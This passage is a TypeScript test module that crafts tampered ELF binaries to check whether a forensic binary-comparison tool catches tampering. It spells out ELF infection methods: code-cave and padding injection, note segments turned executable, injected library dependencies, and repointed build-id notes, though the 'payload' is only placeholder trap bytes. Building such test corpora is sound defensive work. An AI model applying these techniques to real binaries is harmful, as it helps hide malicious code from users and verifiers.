/**
 * The red-team corpus: tampered copies of the corpus binaries, crafted the
 * way an attacker who has read compare()'s source would try to get them
 * called equivalent. Each attack is a byte-level edit of a real binary built
 * by the builder image's own toolchain (any class, endianness or machine),
 * written in TypeScript so that the same attacks run on every arch.
 *
 * Every attack carries its expected verdict, written before it was first
 * run, and whether the tampered file still runs (checked by the tests).
 */
import { chmod, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DT, PF, PT, SHT } from '../../src/forensics/elf/constants.js';
import { type ElfFile, readElf, type SectionHeader } from '../../src/forensics/elf/reader.js';
import { BufferSource } from '../../src/forensics/elf/source.js';
import type { Verdict } from '../../src/forensics/types.js';
import { buildIdInExecutableLoad } from './corpus.js';

export interface Attack {
  /** File written into the corpus directory. */
  name: string;
  /** What was done, for the report. */
  what: string;
  /** The untampered reference it is compared with (b = rebuilt). */
  against: string;
  /** Expected verdict, written before the first run. */
  expect: Verdict;
  /** Whether the tampered file still runs and prints what the original prints. */
  runs: boolean;
  /** Expected verdict instead when the toolchain puts the build-id note in an executable LOAD. */
  expectIfNoteExecutable?: Verdict;
}

/** Class- and endian-aware field access on a mutable copy. */
class Edit {
  readonly le: boolean;
  readonly is64: boolean;
  constructor(
    readonly buf: Buffer,
    readonly elf: ElfFile,
  ) {
    this.le = elf.header.endian === 'little';
    this.is64 = elf.header.class === 64;
  }
  u16(off: number, v: number) {
    if (this.le) this.buf.writeUInt16LE(v, off);
    else this.buf.writeUInt16BE(v, off);
  }
  u32(off: number, v: number) {
    if (this.le) this.buf.writeUInt32LE(v >>> 0, off);
    else this.buf.writeUInt32BE(v >>> 0, off);
  }
  word(off: number, v: bigint) {
    if (this.is64) {
      if (this.le) this.buf.writeBigUInt64LE(v, off);
      else this.buf.writeBigUInt64BE(v, off);
    } else this.u32(off, Number(v & 0xffffffffn));
  }
  readWord(off: number): bigint {
    if (this.is64) return this.le ? this.buf.readBigUInt64LE(off) : this.buf.readBigUInt64BE(off);
    return BigInt(this.le ? this.buf.readUInt32LE(off) : this.buf.readUInt32BE(off));
  }
  /** Offset of a program header's fields. */
  ph(index: number) {
    const at = this.elf.header.phoff + index * this.elf.header.phentsize;
    return this.is64
      ? {
          type: at,
          flags: at + 4,
          offset: at + 8,
          vaddr: at + 16,
          paddr: at + 24,
          filesz: at + 32,
          memsz: at + 40,
        }
      : {
          type: at,
          offset: at + 4,
          vaddr: at + 8,
          paddr: at + 12,
          filesz: at + 16,
          memsz: at + 20,
          flags: at + 24,
        };
  }
  section(name: string): SectionHeader {
    const s = this.elf.sections.find((x) => x.name === name);
    if (!s) throw new Error(`attack construction: no ${name}`);
    return s;
  }
  /** Offset of a name in the section name table (a suffix of an existing name is fine). */
  nameOffset(name: string): number {
    const tab = this.elf.sections[this.elf.header.shstrndx]!;
    const at = this.buf
      .subarray(tab.offset, tab.offset + tab.size)
      .indexOf(Buffer.from(`${name}\0`, 'latin1'));
    if (at < 0) throw new Error(`attack construction: no name ${name} in .shstrtab`);
    return at;
  }
}

/** A section header entry (class and endian of the file). */
function sectionHeaderBytes(e: Edit, s: Omit<SectionHeader, 'index' | 'name'>): Buffer {
  const b = Buffer.alloc(e.elf.header.shentsize);
  const w = new Edit(b, e.elf);
  if (e.is64) {
    w.u32(0, s.nameOffset);
    w.u32(4, s.type);
    w.word(8, s.flags);
    w.word(16, s.addr);
    w.word(24, BigInt(s.offset));
    w.word(32, BigInt(s.size));
    w.u32(40, s.link);
    w.u32(44, s.info);
    w.word(48, s.addralign);
    w.word(56, s.entsize);
  } else {
    w.u32(0, s.nameOffset);
    w.u32(4, s.type);
    w.u32(8, Number(s.flags));
    w.u32(12, Number(s.addr));
    w.u32(16, s.offset);
    w.u32(20, s.size);
    w.u32(24, s.link);
    w.u32(28, s.info);
    w.u32(32, Number(s.addralign));
    w.u32(36, Number(s.entsize));
  }
  return b;
}

/** Appends one section header (the table must end the file) and bumps e_shnum. */
function withExtraSection(e: Edit, s: Omit<SectionHeader, 'index' | 'name'>): Buffer {
  const h = e.elf.header;
  const end = h.shoff + h.shnum * h.shentsize;
  // A table elsewhere (Go puts it inside the first LOAD) is copied to the end.
  const table = end === e.buf.length ? [] : [Buffer.from(e.buf.subarray(h.shoff, end))];
  const out = Buffer.concat([e.buf, ...table, sectionHeaderBytes(e, s)]);
  const o = new Edit(out, e.elf);
  if (table.length > 0) o.word(e.is64 ? 40 : 32, BigInt(e.buf.length));
  o.u16(e.is64 ? 60 : 48, h.shnum + 1);
  return out;
}

interface Cave {
  offset: number;
  size: number;
  vaddr: bigint;
  load: number;
}

/** The largest run of bytes inside an executable LOAD that no section, header or table covers. */
function findCave(elf: ElfFile): Cave {
  let best: Cave | undefined;
  for (const p of elf.segments) {
    if (p.type !== PT.LOAD || (p.flags & PF.X) === 0) continue;
    const covered = elf.sections
      .filter((s) => s.index !== 0 && s.type !== SHT.NOBITS && s.size > 0)
      .map((s) => [s.offset, s.offset + s.size] as const);
    covered.push(
      [0, elf.header.ehsize],
      [elf.header.phoff, elf.header.phoff + elf.header.phnum * elf.header.phentsize],
      // Go's linker puts the section header table inside the first LOAD
      [elf.header.shoff, elf.header.shoff + elf.header.shnum * elf.header.shentsize],
    );
    covered.sort((x, y) => x[0] - y[0]);
    let pos = p.offset;
    const gaps: Array<[number, number]> = [];
    for (const [s, t] of covered) {
      if (t <= pos) continue;
      if (s > pos) gaps.push([pos, Math.min(s, p.offset + p.filesz)]);
      pos = Math.max(pos, t);
    }
    if (pos < p.offset + p.filesz) gaps.push([pos, p.offset + p.filesz]);
    for (const [s, t] of gaps) {
      if (t - s > (best?.size ?? 0))
        best = { offset: s, size: t - s, vaddr: p.vaddr + BigInt(s - p.offset), load: p.index };
    }
  }
  if (!best || best.size < 2) throw new Error('attack construction: no code cave in any executable LOAD');
  return best;
}

/**
 * A cave of at least `size` bytes in an executable LOAD: the largest gap if it
 * is big enough, else the zero padding after the LOAD's end in the file, with
 * the LOAD's p_filesz/p_memsz extended over it (the classic padding infection).
 * The padding may be zeros or a linker's uniform fill (lld's trap bytes).
 */
function roomyCave(e: Edit, size: number): Cave {
  const c = findCave(e.elf);
  if (c.size >= size) return c;
  for (const p of e.elf.segments) {
    if (p.type !== PT.LOAD || (p.flags & PF.X) === 0) continue;
    const end = p.offset + p.filesz;
    const clash = e.elf.segments.some(
      (q) => q.type === PT.LOAD && q !== p && q.offset < end + size && q.offset + q.filesz > end,
    );
    // zero padding, or lld's fill of trap instructions (0xcc on x86)
    const fill = e.buf[end];
    const zero = e.buf.subarray(end, end + size).every((x) => x === fill);
    if (clash || !zero || end + size > e.buf.length || BigInt(p.filesz) !== p.memsz) continue;
    const f = e.ph(p.index);
    e.word(f.filesz, BigInt(p.filesz + size));
    e.word(f.memsz, BigInt(p.filesz + size));
    return { offset: end, size, vaddr: p.vaddr + BigInt(p.filesz), load: p.index };
  }
  throw new Error(`attack construction: no cave of ${size} bytes`);
}

/** Shellcode-looking bytes (int3 / brk patterns), clipped to the cave. */
function payload(size: number): Buffer {
  const b = Buffer.alloc(Math.min(size, 64));
  for (let i = 0; i < b.length; i++) b[i] = [0xcc, 0x90, 0xd4, 0x20][i % 4]!;
  return b;
}

/** A well-formed GNU build-id note whose descriptor is `desc`. */
function buildIdNote(e: Edit, desc: Buffer): Buffer {
  const n = Buffer.alloc(16 + desc.length);
  const w = new Edit(n, e.elf);
  w.u32(0, 4);
  w.u32(4, desc.length);
  w.u32(8, 3);
  n.write('GNU\0', 12, 'latin1');
  desc.copy(n, 16);
  return n;
}

function dynamicEntryOffset(e: Edit, tag: number): number {
  const dyn = e.section('.dynamic');
  const ent = e.is64 ? 16 : 8;
  for (let o = dyn.offset; o + ent <= dyn.offset + dyn.size; o += ent) {
    if (e.readWord(o) === BigInt(tag)) return o;
  }
  throw new Error(`attack construction: no dynamic tag ${tag}`);
}

function dynstrOffsetOf(e: Edit, text: string): number {
  const s = e.section('.dynstr');
  const at = e.buf.subarray(s.offset, s.offset + s.size).indexOf(Buffer.from(`${text}\0`, 'latin1'));
  if (at < 0) throw new Error(`attack construction: no ${text} in .dynstr`);
  return at;
}

type Craft = (e: Edit) => Buffer;

interface AttackSpec extends Attack {
  from: string;
  craft: Craft;
}

const caveWith = (e: Edit): Cave => {
  const c = findCave(e.elf);
  payload(c.size).copy(e.buf, c.offset);
  return c;
};

const withCave: Craft = (e) => {
  caveWith(e);
  return e.buf;
};

/** A section header laid over the cave, with a given name, type and flags. */
const coverCave =
  (name: string, type: number, flags: bigint): Craft =>
  (e) => {
    const c = caveWith(e);
    return withExtraSection(e, {
      nameOffset: e.nameOffset(name),
      type,
      flags,
      addr: flags & 2n ? c.vaddr : 0n,
      offset: c.offset,
      size: Math.min(c.size, 64),
      link: 0,
      info: 0,
      addralign: 1n,
      entsize: 0n,
    });
  };

const SPECS: AttackSpec[] = [
  {
    name: 'atk-cave',
    from: 'base',
    against: 'base',
    what: 'shellcode in the padding of the executable LOAD (bytes no section covers)',
    expect: 'different',
    runs: true,
    craft: withCave,
  },
  {
    name: 'atk-cave',
    from: 'base',
    against: 'pkgforge',
    what: 'unstripped published file with a cave vs the post-processed rebuild (strip would zero the cave)',
    expect: 'different',
    runs: true,
    craft: withCave,
  },
  {
    name: 'atk-cave-stripped',
    from: 'pkgforge',
    against: 'base',
    what: 'post-processed published file with a cave vs the unstripped rebuild (post-processing route)',
    expect: 'different',
    runs: true,
    craft: withCave,
  },
  ...(
    [
      ['.comment', SHT.PROGBITS, 0n],
      ['.comment', SHT.PROGBITS, 2n],
      ['.note.ABI-tag', SHT.NOTE, 2n],
      ['.note.ABI-tag', SHT.NOTE, 0n],
      ['.debug_info', SHT.PROGBITS, 0n],
      ['.symtab', SHT.SYMTAB, 0n],
      ['.shstrtab', SHT.STRTAB, 0n],
    ] as const
  ).map(
    ([n, t, fl], i): AttackSpec => ({
      name: `atk-cover-${i}`,
      from: 'base',
      against: 'base',
      what: `cave covered by an added section header named ${n}, type ${t}, ${fl & 2n ? 'allocated' : 'not allocated'}`,
      expect: 'different',
      runs: true,
      craft: coverCave(n, t, fl),
    }),
  ),
  {
    name: 'atk-buildid-repointed',
    from: 'base',
    against: 'base',
    what: 'a well-formed build-id note written into the cave, PT_NOTE and .note.gnu.build-id repointed at it',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const c = roomyCave(e, 48);
      const note = buildIdNote(e, payload(Math.min(c.size - 16, 20)));
      note.copy(e.buf, c.offset);
      const bid = e.section('.note.gnu.build-id');
      const ph = e.elf.segments.find(
        (p) => p.type === PT.NOTE && p.offset <= bid.offset && bid.offset < p.offset + p.filesz,
      );
      if (!ph) throw new Error('attack construction: no PT_NOTE over the build-id');
      const f = e.ph(ph.index);
      e.word(f.offset, BigInt(c.offset));
      e.word(f.vaddr, c.vaddr);
      e.word(f.paddr, c.vaddr);
      e.word(f.filesz, BigInt(note.length));
      e.word(f.memsz, BigInt(note.length));
      const sh = e.elf.header.shoff + bid.index * e.elf.header.shentsize;
      e.word(sh + (e.is64 ? 16 : 12), c.vaddr);
      e.word(sh + (e.is64 ? 24 : 16), BigInt(c.offset));
      e.word(sh + (e.is64 ? 32 : 20), BigInt(note.length));
      return e.buf;
    },
  },
  {
    name: 'atk-buildid-desc',
    from: 'base',
    against: 'base',
    what: 'only the build-id descriptor rewritten in place (the one loaded difference the rules excuse)',
    expect: 'equivalent',
    expectIfNoteExecutable: 'different',
    runs: true,
    craft: (e) => {
      const bid = e.section('.note.gnu.build-id');
      e.buf.fill(0x41, bid.offset + 16, bid.offset + bid.size);
      return e.buf;
    },
  },
  {
    name: 'atk-note-payload',
    from: 'base',
    against: 'pkgforge',
    what: 'payload in the loaded .note.ABI-tag descriptor of an unstripped published file (evidence strip would destroy)',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const s = e.section('.note.ABI-tag');
      payload(s.size - 16).copy(e.buf, s.offset + 16);
      return e.buf;
    },
  },
  {
    name: 'atk-note-exec',
    from: 'base',
    against: 'base',
    what: 'the LOAD holding the notes made executable (PF_X) and the build-id descriptor rewritten',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const bid = e.section('.note.gnu.build-id');
      const load = e.elf.segments.find(
        (p) => p.type === PT.LOAD && p.offset <= bid.offset && bid.offset < p.offset + p.filesz,
      )!;
      e.u32(e.ph(load.index).flags, load.flags | PF.X);
      e.buf.fill(0xcc, bid.offset + 16, bid.offset + bid.size);
      return e.buf;
    },
  },
  {
    name: 'atk-note-to-load',
    from: 'base',
    against: 'base',
    what: 'a PT_NOTE turned into an executable PT_LOAD',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const p = e.elf.segments.find((x) => x.type === PT.NOTE)!;
      e.u32(e.ph(p.index).type, PT.LOAD);
      e.u32(e.ph(p.index).flags, PF.R | PF.X);
      return e.buf;
    },
  },
  {
    name: 'atk-needed',
    from: 'base',
    against: 'base',
    what: 'DT_DEBUG rewritten as an injected DT_NEEDED (libc again)',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const o = dynamicEntryOffset(e, 21);
      e.word(o, BigInt(DT.NEEDED));
      e.word(o + (e.is64 ? 8 : 4), BigInt(dynstrOffsetOf(e, 'libc.so.6')));
      return e.buf;
    },
  },
  {
    name: 'atk-runpath',
    from: 'base',
    against: 'base',
    what: 'DT_DEBUG rewritten as an injected DT_RUNPATH',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const o = dynamicEntryOffset(e, 21);
      e.word(o, BigInt(DT.RUNPATH));
      e.word(o + (e.is64 ? 8 : 4), BigInt(dynstrOffsetOf(e, 'libc.so.6')));
      return e.buf;
    },
  },
  {
    name: 'atk-interp',
    from: 'base',
    against: 'base',
    what: 'the interpreter path changed (the last character of PT_INTERP)',
    expect: 'different',
    runs: false,
    craft: (e) => {
      const p = e.elf.segments.find((x) => x.type === PT.INTERP)!;
      e.buf[p.offset + p.filesz - 2] = 0x78;
      return e.buf;
    },
  },
  {
    name: 'atk-init-array',
    from: 'base',
    against: 'base',
    what: 'the .init_array entry (file value and its relocation addend) pointed at the .fini_array function',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const ia = e.section('.init_array');
      const fa = e.section('.fini_array');
      e.word(ia.offset, e.readWord(fa.offset));
      const rela = e.elf.sections.find((s) => s.name === '.rela.dyn' || s.name === '.rel.dyn');
      if (rela && rela.type === SHT.RELA) {
        const ent = e.is64 ? 24 : 12;
        let faAddend: bigint | undefined;
        for (let o = rela.offset; o + ent <= rela.offset + rela.size; o += ent) {
          if (e.readWord(o) === fa.addr) faAddend = e.readWord(o + 2 * (ent / 3));
        }
        for (let o = rela.offset; o + ent <= rela.offset + rela.size; o += ent) {
          if (e.readWord(o) === ia.addr && faAddend !== undefined) e.word(o + 2 * (ent / 3), faAddend);
        }
      }
      return e.buf;
    },
  },
  {
    name: 'atk-reloc',
    from: 'base',
    against: 'base',
    what: 'one relocation entry changed (a bit of the last .rela.dyn/.rel.dyn entry)',
    expect: 'different',
    runs: false,
    craft: (e) => {
      const rela = e.elf.sections.find((s) => s.name === '.rela.dyn' || s.name === '.rel.dyn')!;
      const at = rela.offset + rela.size - 1;
      e.buf[at] = (e.buf[at] ?? 0) ^ 0x40;
      return e.buf;
    },
  },
  {
    name: 'atk-got',
    from: 'base',
    against: 'base',
    what: 'a GOT initial value changed',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const got = e.elf.sections.find((s) => s.name === '.got') ?? e.section('.got.plt');
      const w = e.is64 ? 8 : 4;
      const at = got.offset + got.size - w;
      e.word(at, e.readWord(at) ^ 0x10n);
      return e.buf;
    },
  },
  {
    name: 'atk-eh-frame',
    from: 'base',
    against: 'base',
    what: 'one byte of .eh_frame changed',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const s = e.section('.eh_frame');
      e.buf[s.offset + s.size - 2] = (e.buf[s.offset + s.size - 2] ?? 0) ^ 0x01;
      return e.buf;
    },
  },
  {
    name: 'atk-data-rwx',
    from: 'base',
    against: 'base',
    what: 'the writable LOAD made executable (RW → RWX)',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const p = e.elf.segments.find((x) => x.type === PT.LOAD && (x.flags & PF.W) !== 0)!;
      e.u32(e.ph(p.index).flags, p.flags | PF.X);
      return e.buf;
    },
  },
  {
    name: 'atk-stack-exec',
    from: 'base',
    against: 'base',
    what: 'PT_GNU_STACK made executable',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const p = e.elf.segments.find((x) => x.type === PT.GNU_STACK)!;
      e.u32(e.ph(p.index).flags, p.flags | PF.X);
      return e.buf;
    },
  },
  {
    name: 'atk-osabi',
    from: 'base',
    against: 'base',
    what: 'e_ident EI_OSABI set to 3 (GNU)',
    expect: 'different',
    runs: true,
    craft: (e) => {
      e.buf[7] = 3;
      return e.buf;
    },
  },
  {
    name: 'atk-eflags',
    from: 'base',
    against: 'base',
    what: 'e_flags changed',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const at = 24 + 3 * (e.is64 ? 8 : 4);
      e.u32(at, e.elf.header.flags ^ 0x100);
      return e.buf;
    },
  },
  {
    name: 'atk-sstrip',
    from: 'base',
    against: 'base',
    what: 'sstrip-like: everything after the last segment cut off, section header fields zeroed (false alarm before)',
    expect: 'equivalent',
    runs: true,
    craft: (e) => sstrip(e),
  },
  {
    name: 'atk-sstrip-pkgforge',
    from: 'pkgforge',
    against: 'base',
    what: 'sstrip-like cut of the post-processed file vs the unstripped rebuild',
    expect: 'equivalent',
    runs: true,
    craft: (e) => sstrip(e),
  },
  {
    name: 'atk-sstrip-cave',
    from: 'base',
    against: 'base',
    what: 'sstrip-like file with a cave',
    expect: 'different',
    runs: true,
    craft: (e) => sstrip(new Edit(withCave(e), e.elf)),
  },
  {
    name: 'atk-sht-truncated',
    from: 'base',
    against: 'base',
    what: 'e_shnum claims more section headers than the file holds (table runs past the end)',
    expect: 'equivalent',
    runs: true,
    craft: (e) => {
      e.u16(e.is64 ? 60 : 48, e.elf.header.shnum + 1000);
      return e.buf;
    },
  },
  {
    name: 'atk-sht-lying',
    from: 'base',
    against: 'base',
    what: '.text section header lies (offset and size moved onto .rodata); the loaded bytes are untouched',
    expect: 'equivalent',
    runs: true,
    craft: (e) => {
      const t = e.section('.text');
      const r = e.section('.rodata');
      const sh = e.elf.header.shoff + t.index * e.elf.header.shentsize;
      e.word(sh + (e.is64 ? 24 : 16), BigInt(r.offset));
      e.word(sh + (e.is64 ? 32 : 20), BigInt(r.size));
      return e.buf;
    },
  },
  {
    name: 'atk-sht-lying-cave',
    from: 'base',
    against: 'base',
    what: 'lying .comment header moved over the cave (not allocated), with a cave payload',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const c = caveWith(e);
      const s = e.section('.comment');
      const sh = e.elf.header.shoff + s.index * e.elf.header.shentsize;
      e.word(sh + (e.is64 ? 24 : 16), BigInt(c.offset));
      e.word(sh + (e.is64 ? 32 : 20), BigInt(Math.min(c.size, 64)));
      return e.buf;
    },
  },
  {
    name: 'atk-text',
    from: 'base',
    against: 'base',
    what: 'one code byte changed in .text',
    expect: 'different',
    runs: false,
    craft: (e) => {
      const t = e.section('.text');
      e.buf[t.offset + Math.floor(t.size / 2)] = (e.buf[t.offset + Math.floor(t.size / 2)] ?? 0) ^ 0xff;
      return e.buf;
    },
  },
];

/** Cuts the file after its last segment and zeroes the section header fields (like sstrip). */
function sstrip(e: Edit): Buffer {
  let end = 0;
  for (const p of e.elf.segments) end = Math.max(end, p.offset + p.filesz);
  const out = Buffer.from(e.buf.subarray(0, end));
  const o = new Edit(out, e.elf);
  o.word(e.is64 ? 40 : 32, 0n);
  o.u16(e.is64 ? 58 : 46, 0);
  o.u16(e.is64 ? 60 : 48, 0);
  o.u16(e.is64 ? 62 : 50, 0);
  return out;
}

/** Writes every attack's file into `dir` (next to the corpus binaries); returns the attacks. */
export async function makeAttacks(dir: string): Promise<Attack[]> {
  return writeAttacks(dir, [...SPECS, ...CONTENT_PROOF_SPECS]);
}

async function writeAttacks(dir: string, specs: readonly AttackSpec[]): Promise<Attack[]> {
  const out: Attack[] = [];
  const written = new Set<string>();
  await chmod(join(dir, 'base'), 0o755);
  for (const spec of specs) {
    if (!written.has(spec.name)) {
      const buf = Buffer.from(await readFile(join(dir, spec.from)));
      const elf = await readElf(new BufferSource(buf, spec.from));
      await writeFile(join(dir, spec.name), spec.craft(new Edit(buf, elf)));
      await chmod(join(dir, spec.name), 0o755);
      written.add(spec.name);
    }
    const { from: _f, craft: _c, ...attack } = spec;
    if (attack.expectIfNoteExecutable && (await buildIdInExecutableLoad(join(dir, spec.against)))) {
      attack.expect = attack.expectIfNoteExecutable;
    }
    out.push(attack);
  }
  return out;
}

/** One line per binary from run-attacks.sh: name → exit status and first output line. */
export function parseRuns(text: string): Map<string, { rc: number; out: string }> {
  const m = new Map<string, { rc: number; out: string }>();
  for (const line of text.split('\n')) {
    const r = /^(\S+) (\d+) ?(.*)$/.exec(line.trim());
    if (r?.[1] && r[2]) m.set(r[1], { rc: Number(r[2]), out: r[3] ?? '' });
  }
  return m;
}

export const RUN_SCRIPT = 'run-attacks.sh';

// ---------------------------------------------------------------------------
// Program-header attacks and the per-toolchain selection (other compilers,
// 32-bit and big-endian machines; test/forensics/toolchains-cross.test.ts).
// ---------------------------------------------------------------------------

/** An attack whose construction needs a program header type (PT_INTERP, PT_DYNAMIC) to exist. */
export interface HeaderAttack extends Attack {
  /** A clean input error (exit 3, the file named) is as good as `different` here. */
  errorAccepted?: boolean;
}

/*
 * `runs: false` below means "not claimed": whether the kernel or qemu-user
 * accepts such a file differs by machine (an aarch64 loader rejects a
 * malformed property note, a LOAD running past the end of the file still
 * runs until its missing pages are touched).
 */
interface HeaderAttackSpec extends HeaderAttack {
  from: string;
  craft: Craft;
  needs?: number;
}

/** The program header of a type (the n-th one), or a construction error. */
function segmentOf(e: Edit, type: number, nth = 0) {
  const p = e.elf.segments.filter((x) => x.type === type)[nth];
  if (!p) throw new Error(`attack construction: no program header of type ${type}`);
  return p;
}

/** Points program header `index` at `len` bytes at the cave (file offset and addresses). */
function repoint(e: Edit, index: number, c: Cave, len: number) {
  const f = e.ph(index);
  e.word(f.offset, BigInt(c.offset));
  e.word(f.vaddr, c.vaddr);
  e.word(f.paddr, c.vaddr);
  e.word(f.filesz, BigInt(len));
  e.word(f.memsz, BigInt(len));
}

/** A PT_NOTE other than the one describing the build-id, else the first. */
function spareNote(e: Edit) {
  const bid = e.elf.sections.find((s) => s.name === '.note.gnu.build-id');
  const notes = e.elf.segments.filter((p) => p.type === PT.NOTE);
  const spare = notes.find((p) => !bid || !(p.offset <= bid.offset && bid.offset < p.offset + p.filesz));
  const p = spare ?? notes[0];
  if (!p) throw new Error('attack construction: no PT_NOTE');
  return p;
}

/** A note that reads well (name "GNU", an unknown type) carrying shellcode-looking bytes. */
function payloadNote(e: Edit, room: number): Buffer {
  const desc = payload(Math.max(4, Math.min(room - 16, 32)) & ~3);
  const n = buildIdNote(e, desc);
  new Edit(n, e.elf).u32(8, 0x4142);
  return n;
}

/** A payload note written into a cave of the executable LOAD. */
function plantNote(e: Edit): { c: Cave; n: Buffer } {
  const c = roomyCave(e, 48);
  const n = payloadNote(e, c.size);
  n.copy(e.buf, c.offset);
  return { c, n };
}

/** The bytes of the program header of `type` copied into a cave, the header pointed at the copy. */
function moveSegment(e: Edit, type: number, edit: (at: number, size: number) => void = () => {}) {
  const p = segmentOf(e, type);
  const c = roomyCave(e, p.filesz);
  e.buf.copy(e.buf, c.offset, p.offset, p.offset + p.filesz);
  edit(c.offset, p.filesz);
  repoint(e, p.index, c, p.filesz);
  return e.buf;
}

const PH_SPECS: HeaderAttackSpec[] = [
  {
    name: 'atk-ph-note-payload',
    from: 'base',
    against: 'base',
    what: 'a second PT_NOTE repointed at a well-formed note carrying shellcode in the executable LOAD',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const { c, n } = plantNote(e);
      repoint(e, spareNote(e).index, c, n.length);
      return e.buf;
    },
  },
  {
    name: 'atk-ph-property-payload',
    from: 'base',
    against: 'base',
    what: 'PT_GNU_PROPERTY (or, where none, a PT_NOTE retyped as one) pointed at a payload note in the executable LOAD',
    expect: 'different',
    runs: false,
    craft: (e) => {
      const { c, n } = plantNote(e);
      const p = e.elf.segments.find((x) => x.type === PT.GNU_PROPERTY) ?? spareNote(e);
      e.u32(e.ph(p.index).type, PT.GNU_PROPERTY);
      repoint(e, p.index, c, n.length);
      return e.buf;
    },
  },
  {
    name: 'atk-ph-added-note',
    from: 'base',
    against: 'base',
    what: 'one more PT_NOTE added (program header table copied to the end of the file, e_phoff/e_phnum updated) over a payload note',
    expect: 'different',
    runs: false,
    craft: (e) => {
      const { c, n } = plantNote(e);
      const h = e.elf.header;
      const table = Buffer.from(e.buf.subarray(h.phoff, h.phoff + h.phnum * h.phentsize));
      const extra = Buffer.from(table.subarray(0, h.phentsize));
      const out = Buffer.concat([e.buf, table, extra]);
      const o = new Edit(out, e.elf);
      o.word(e.is64 ? 32 : 28, BigInt(e.buf.length));
      o.u16(e.is64 ? 56 : 44, h.phnum + 1);
      const moved = new Edit(out, { ...e.elf, header: { ...h, phoff: e.buf.length } });
      moved.u32(moved.ph(h.phnum).type, PT.NOTE);
      moved.u32(moved.ph(h.phnum).flags, PF.R);
      repoint(moved, h.phnum, c, n.length);
      return out;
    },
  },
  {
    name: 'atk-ph-overlap',
    from: 'base',
    against: 'base',
    what: 'the executable PT_LOAD extended over the next PT_LOAD (overlapping LOADs: its bytes mapped executable)',
    expect: 'different',
    runs: true,
    craft: (e) => {
      const loads = e.elf.segments.filter((x) => x.type === PT.LOAD).sort((x, y) => x.offset - y.offset);
      const i = loads.findIndex((x) => (x.flags & PF.X) !== 0);
      const p = loads[i]!;
      const next = loads[i + 1] ?? loads[i - 1];
      if (!next) throw new Error('attack construction: a single PT_LOAD');
      const end = Math.max(p.offset + p.filesz, next.offset + next.filesz);
      const start = Math.min(p.offset, next.offset);
      const f = e.ph(p.index);
      e.word(f.offset, BigInt(start));
      e.word(f.vaddr, p.vaddr - BigInt(p.offset - start));
      e.word(f.paddr, p.vaddr - BigInt(p.offset - start));
      e.word(f.filesz, BigInt(end - start));
      e.word(f.memsz, BigInt(end - start));
      return e.buf;
    },
  },
  {
    name: 'atk-ph-filesz-gt-memsz',
    from: 'base',
    against: 'base',
    what: 'the executable PT_LOAD with p_filesz larger than p_memsz',
    expect: 'different',
    errorAccepted: true,
    runs: false,
    craft: (e) => {
      const p = e.elf.segments.find((x) => x.type === PT.LOAD && (x.flags & PF.X) !== 0)!;
      e.word(e.ph(p.index).filesz, p.memsz + 64n);
      return e.buf;
    },
  },
  {
    name: 'atk-ph-out-of-file',
    from: 'base',
    against: 'base',
    what: 'the last PT_LOAD with p_filesz/p_memsz running 1 MiB past the end of the file',
    expect: 'different',
    errorAccepted: true,
    runs: false,
    craft: (e) => {
      const loads = e.elf.segments.filter((x) => x.type === PT.LOAD).sort((x, y) => x.offset - y.offset);
      const p = loads[loads.length - 1]!;
      const grow = BigInt(e.buf.length - p.offset + (1 << 20));
      e.word(e.ph(p.index).filesz, grow);
      e.word(e.ph(p.index).memsz, grow > p.memsz ? grow : p.memsz);
      return e.buf;
    },
  },
  {
    name: 'atk-ph-interp-moved',
    from: 'base',
    against: 'base',
    what: 'the same interpreter path copied into the executable LOAD padding and PT_INTERP pointed there',
    expect: 'different',
    runs: true,
    needs: PT.INTERP,
    craft: (e) => moveSegment(e, PT.INTERP),
  },
  {
    name: 'atk-ph-dynamic-moved',
    from: 'base',
    against: 'base',
    what: 'a copy of the dynamic section, with DT_DEBUG turned into DT_NEEDED, written into the padding and PT_DYNAMIC pointed at it',
    expect: 'different',
    runs: false,
    needs: PT.DYNAMIC,
    craft: (e) =>
      moveSegment(e, PT.DYNAMIC, (at, size) => {
        const ent = e.is64 ? 16 : 8;
        for (let o = at; o + ent <= at + size; o += ent) {
          if (e.readWord(o) === 21n) e.word(o, BigInt(DT.NEEDED)); // DT_DEBUG
        }
      }),
  },
];

/** The attacks every toolchain gets: caves, a removable-looking header over one, the build-id repointed, a code byte. */
const KEY_ATTACKS = [
  'atk-cave',
  'atk-cave-stripped',
  'atk-buildid-repointed',
  'atk-buildid-desc',
  'atk-text',
] as const;

/**
 * Writes the key attacks and the program-header attacks for the `base` and
 * `pkgforge` files of `dir`. `cover` names the section whose name an added
 * header over the cave borrows (one the file has); `buildId` says whether the
 * file has a GNU build-id note to repoint (Go's linker writes none).
 */
export async function makeToolchainAttacks(
  dir: string,
  opts: { cover: string; buildId: boolean },
): Promise<HeaderAttack[]> {
  const src = await readFile(join(dir, 'base'));
  const elf = await readElf(new BufferSource(Buffer.from(src), 'base'));
  const types = new Set(elf.segments.map((p) => p.type));
  const key = SPECS.filter(
    (s) =>
      (KEY_ATTACKS as readonly string[]).includes(s.name) &&
      (opts.buildId || !s.name.startsWith('atk-buildid')),
  );
  const cover: AttackSpec = {
    name: 'atk-cover',
    from: 'base',
    against: 'base',
    what: `cave covered by an added, not allocated section header borrowing the name ${opts.cover}`,
    expect: 'different',
    runs: true,
    craft: (e) => coverCave(opts.cover, SHT.PROGBITS, 0n)(e),
  };
  const headers = PH_SPECS.filter((s) => s.needs === undefined || types.has(s.needs));
  const written = await writeAttacks(dir, [...key, cover, ...headers]);
  const accepted = new Set(headers.filter((s) => s.errorAccepted).map((s) => s.name));
  return written.map((a) => (accepted.has(a.name) ? { ...a, errorAccepted: true } : a));
}

// ---------------------------------------------------------------------------
// Content-proof attacks: payloads in non-loaded sections whose name or type
// says "removable" (.comment, .debug_*, .symtab/.strtab, .gnu_debuglink,
// non-allocated notes). Each section's contents must prove out as what it
